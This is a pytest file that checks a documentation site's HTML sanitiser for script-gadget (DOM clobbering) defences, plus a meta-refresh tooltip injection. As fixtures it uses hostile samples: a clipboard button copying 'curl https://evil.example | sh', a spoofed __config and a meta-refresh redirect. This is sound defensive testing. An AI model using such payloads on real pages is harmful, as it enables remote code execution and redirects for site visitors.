"""No gadgets in content: every id, class and attribute a script of the site looks up is either
dropped from content by the sanitiser or allowed with a reason (macros/sanitize.py).

The names are read from the scripts themselves: Material's bundle and search worker (in the
installed package) and every file under docs/assets/javascripts/. A Material upgrade or a new
script of ours that looks up a new name fails here until the name is classified.
"""
from __future__ import annotations

import re
from pathlib import Path

import pytest

from conftest import ROOT
from macros import sanitize

MATERIAL = Path(__import__("material").__file__).parent / "templates" / "assets" / "javascripts"
OURS = ROOT / "docs" / "assets" / "javascripts"

# --- reading the names a script uses -------------------------------------------------------------

_STRING = re.compile(r'"((?:[^"\\\n]|\\.)*)"|\'((?:[^\'\\\n]|\\.)*)\'|`((?:[^`\\]|\\.)*)`')
# Tags a selector may start with ("li.task-list-item"); "navigation.instant" is a feature flag, not a selector.
_TAGS = set("a abbr article aside b blockquote body button caption code dd details div dl dt em fieldset figure footer "
            "form h1 h2 h3 h4 h5 h6 header hr html i iframe img input label legend li link main mark meta nav ol option "
            "output p pre script section select small span strong summary svg table tbody td textarea th thead tr ul "
            "video circle ellipse path polygon rect marker".split())
_COMPOUND = re.compile(r"(?P<tag>\*|[a-zA-Z][\w-]*)?(?P<rest>(?:[.#][\w*-]+|\[[^\]]*\]|::?[\w-]+(?:\([^)]*\))?)*)")
_PIECE = re.compile(r"[.#][\w*-]+|\[[^\]]*\]|::?[\w-]+(?:\([^)]*\))?")
_ATTRIBUTE = re.compile(r"\[\s*([A-Za-z_][\w:-]*)\s*(?:([~|^$*]?=)\s*(?:\"([^\"]*)\"|'([^']*)'|([^\]\s]*)))?\s*\]")
_CALLS = [
    (re.compile(r"(?:get|has|set|remove|toggle)Attribute(?:NS)?\(\s*(?:null\s*,\s*)?[\"']([^\"']+)[\"']"), "attr"),
    (re.compile(r"classList\.(?:contains|add|remove|toggle|replace)\(\s*[\"']([^\"']+)[\"']"), "class"),
    (re.compile(r"getElementsByClassName\(\s*[\"']([^\"']+)[\"']"), "class"),
    (re.compile(r"getElementById\(\s*[\"']([^\"']+)[\"']\s*(\+)?"), "id"),
    (re.compile(r"\.className\s*[!=]==?\s*[\"']([^\"']+)[\"']"), "class"),
]
_DATASET = re.compile(r"\.dataset\.([A-Za-z]+)")


def _selector(text: str) -> set[tuple[str, str]]:
    """The ids, classes and attributes of a CSS selector, or nothing when the text is no selector."""
    out: set[tuple[str, str]] = set()
    parts, depth, current = [], 0, ""
    for char in text:
        depth += char in "[(" and 1 or 0
        depth -= char in "])" and 1 or 0
        if depth == 0 and char in " ,>+~\n\t":
            parts.append(current)
            current = ""
        else:
            current += char
    parts.append(current)
    for part in filter(None, parts):
        compound = _COMPOUND.fullmatch(part)
        if not compound or not (compound.group("rest") or compound.group("tag")):
            return set()
        tag = compound.group("tag")
        if tag and tag != "*" and tag.lower() not in _TAGS:
            return set()
        for piece in _PIECE.findall(compound.group("rest") or ""):
            if piece[0] == "#":
                out.add(("id", piece[1:]))
            elif piece[0] == ".":
                out.add(("class", piece[1:]))
            elif piece[0] == "[":
                attribute = _ATTRIBUTE.fullmatch(piece)
                if not attribute:
                    return set()
                name, op = attribute.group(1).lower(), attribute.group(2)
                value = attribute.group(3) or attribute.group(4) or attribute.group(5)
                out.add(("attr", name))
                if value and name in ("id", "for", "name"):
                    out.add(("id", value + ("*" if op in ("^=", "|=") else "")))
                if value and name == "class":
                    out.add(("class", value + ("*" if op in ("^=", "|=") else "")))
            else:
                inner = re.search(r"\((.*)\)", piece)
                if inner:
                    out |= _selector(inner.group(1))
    return out


def hooks_of(source: str) -> set[tuple[str, str]]:
    """Every (kind, name) a script looks up or sets: kind is 'id', 'class' or 'attr'; '*' marks a
    part built at run time ("lk-o" + n gives 'lk-o*')."""
    out: set[tuple[str, str]] = set()
    for match in _STRING.finditer(source):
        text = next(g for g in match.groups() if g is not None)
        text = re.sub(r"\$\{[^}]*\}", "*", text)
        out |= {("attr", name) for name in re.findall(r"(?<![\w-])(data-[\w*-]+)", text)}
        if re.fullmatch(r"__[\w*-]*", text):
            out.add(("id", text))
        if re.search(r"[.#\[]", text) and len(text) < 300:
            out |= _selector(text.strip())
    for pattern, kind in _CALLS:
        for match in pattern.finditer(source):
            value = match.group(1) + ("*" if kind == "id" and match.group(2) else "")
            out |= {(kind, v) for v in (value.split() if kind == "class" else [value])}
    out |= {("attr", "data-" + re.sub(r"[A-Z]", lambda m: "-" + m.group(0).lower(), m.group(1)))
            for m in _DATASET.finditer(source)}
    return out


# --- classifying them ------------------------------------------------------------------------------


def blocked(kind: str, name: str) -> bool:
    if kind == "id":
        return sanitize.blocked_id(name)
    if kind == "class":
        return sanitize.blocked_class(name)
    return sanitize.blocked_attribute(name) or name.rstrip("*").startswith(sanitize.BLOCKED_ATTRIBUTE_PREFIXES)


def classify(kind: str, name: str, script: str) -> str | None:
    """'blocked', 'allowed', 'page script', or None: a name nobody decided about."""
    if blocked(kind, name):
        return "blocked"
    if f"{kind}:{name}" in sanitize.ALLOWED:
        return "allowed"
    hooks = sanitize.PAGE_SCRIPTS.get(f"assets/javascripts/{script}")
    if hooks is not None and name in {"id": hooks.ids, "class": hooks.classes, "attr": hooks.attributes}[kind]:
        return "page script"
    return None


def scripts() -> dict[str, str]:
    found = {f"material/{p.relative_to(MATERIAL).as_posix()}": p.read_text(encoding="utf-8")
             for p in sorted(MATERIAL.glob("**/*.js")) if "/lunr/" not in p.as_posix()}
    found.update({p.relative_to(OURS).as_posix(): p.read_text(encoding="utf-8") for p in sorted(OURS.glob("**/*.js"))})
    return found


def unclassified(sources: dict[str, str]) -> tuple[int, list[str]]:
    count, missing = 0, []
    for script, source in sources.items():
        for kind, name in sorted(hooks_of(source)):
            count += 1
            if classify(kind, name, script) is None:
                missing.append(f"{script}: {kind} '{name}'")
    return count, missing


def test_every_name_a_script_uses_is_blocked_or_allowed_with_a_reason(capsys):
    sources = scripts()
    assert any(s.startswith("material/bundle.") for s in sources), "Material's bundle not found"
    assert "afvinklijst.js" in sources and "aankoopwijzer.js" in sources
    count, missing = unclassified(sources)
    with capsys.disabled():
        print(f"\n  gadgetlijst: {count} namen uit {len(sources)} scripts nagekeken")
    assert count > 100, f"only {count} names read from the scripts: the reader is broken"
    assert not missing, ("names a script uses that content could carry; block them in macros/sanitize.py or allow "
                         "them there with a reason:\n" + "\n".join(missing))


def test_a_new_name_in_a_script_is_caught():
    """The check's control: a planted script that looks up a name nobody classified."""
    planted = {"nieuw.js": 'document.querySelector("[data-nieuw-gadget]").dataset.ander; '
                           'document.getElementById("geheim-knop"); el.classList.contains("stuur-door")'}
    count, missing = unclassified(planted)
    assert count == 4
    assert missing == ["nieuw.js: attr 'data-ander'", "nieuw.js: attr 'data-nieuw-gadget'",
                       "nieuw.js: class 'stuur-door'", "nieuw.js: id 'geheim-knop'"]


def test_the_reader_finds_the_names_material_is_known_to_use():
    names = hooks_of(next(s for n, s in scripts().items() if n.startswith("material/bundle.")))
    for expected in [("id", "__config"), ("attr", "data-clipboard-text"), ("attr", "data-md-component"),
                     ("class", "md-clipboard"), ("class", "mermaid")]:
        assert expected in names or (expected[0] == "class" and any(n.startswith("md-") for k, n in names)), expected
    assert ("attr", "data-doorverwijzing") in hooks_of((OURS / "doorverwijzing.js").read_text(encoding="utf-8"))


def test_reasons_are_given_and_the_md_button_exception_is_no_script_hook():
    assert all(len(reason) > 10 for reason in sanitize.ALLOWED.values())
    used = set()
    for source in scripts().values():
        used |= {name for kind, name in hooks_of(source) if kind == "class"}
    assert not (sanitize.CLASS_PREFIX_EXCEPTIONS & used), "a script now acts on md-button: block it again"


def blocked_names() -> list[tuple[str, str, str]]:
    out = []
    for script, source in scripts().items():
        out += [(kind, name, script) for kind, name in hooks_of(source) if "*" not in name and blocked(kind, name)]
    return sorted(set(out))


def test_the_sanitiser_drops_every_blocked_name_from_content():
    names = blocked_names()
    assert len(names) > 50
    for kind, name, script in names:
        if kind == "id":
            html = f'<p id="{name}">x</p><label for="{name}">l</label><a href="#x" aria-controls="{name}">a</a>'
            out = sanitize.clean(html)
            assert f'"{name}"' not in out, (script, name, out)
        elif kind == "class":
            out = sanitize.clean(f'<p class="gewoon {name}">x</p>')
            assert name not in out.split('"')[1].split(), (script, name, out)
        else:
            out = sanitize.clean(f'<p {name}="x">x</p>')
            assert name not in out, (script, name, out)


def test_the_known_gadgets_are_inert_after_the_sanitiser():
    html = ('<div id="__config">{"base": "https://evil.example/"}</div>'
            '<button class="md-clipboard md-icon" data-clipboard-text="curl https://evil.example | sh">kopieer</button>'
            '<a href="https://evil.example/" data-doorverwijzing>weg</a>'
            '<div data-md-component="outdated">x</div><pre class="mermaid">graph</pre>'
            '<label for="__search">zoek</label><input name="__tabbed_1" type="radio">')
    out = sanitize.clean(html)
    for gone in ("__config", "md-clipboard", "data-clipboard", "data-doorverwijzing", "data-md-", "mermaid",
                 "__search", "__tabbed"):
        assert gone not in out, (gone, out)
    assert 'href="https://evil.example/"' in out  # a link stays a link, to be clicked or not
    assert sanitize.clean('<a class="md-button md-button--primary" href="#x">knop</a>').count("md-button") == 2


@pytest.mark.parametrize("heading,slug", [("__config", "config"), ("__", "kop"), ("_ _search", "search"),
                                          ("Wat doe je?", "wat-doe-je"), ("Stap 1: behoefte", "stap-1-behoefte")])
def test_a_heading_never_gets_one_of_materials_ids(heading, slug):
    assert sanitize.slugify(heading, "-") == slug


def test_a_tools_id_may_occur_once_on_its_page():
    script = "assets/javascripts/levensduurkost.js"
    one = '<form id="lk-formulier"></form><div id="lk-opties"></div><input id="lk-o1-naam">'
    assert sanitize.hook_id_problems(one, [script]) == []
    twice = '<h2 id="lk-formulier">kop</h2>' + one
    problems = sanitize.hook_id_problems(twice, [script])
    assert len(problems) == 1 and "'lk-formulier' staat 2 keer" in problems[0]
    assert sanitize.hook_id_problems(twice, []) == []  # on a page without the script the id does nothing


def test_a_title_that_would_become_markup_in_materials_tooltip_gets_look_alike_quotes():
    """Material writes an entry of the menu or the table of contents that does not fit into a tooltip as
    HTML: a heading's text may not become markup there (macros/sanitize.py, menu_text)."""
    title = 'Over &lt;/title&gt;&lt;meta http-equiv="refresh" content="0;url=https://evil.example/"&gt;'
    safe = sanitize.menu_text(title)
    assert "<" not in safe and "&lt;" not in safe and "\u2039meta http-equiv=&quot;refresh&quot;" in safe
    assert sanitize.menu_text("Foto&#x27;s &amp; co") == "Foto&#x27;s &amp; co"  # nothing to do: unchanged
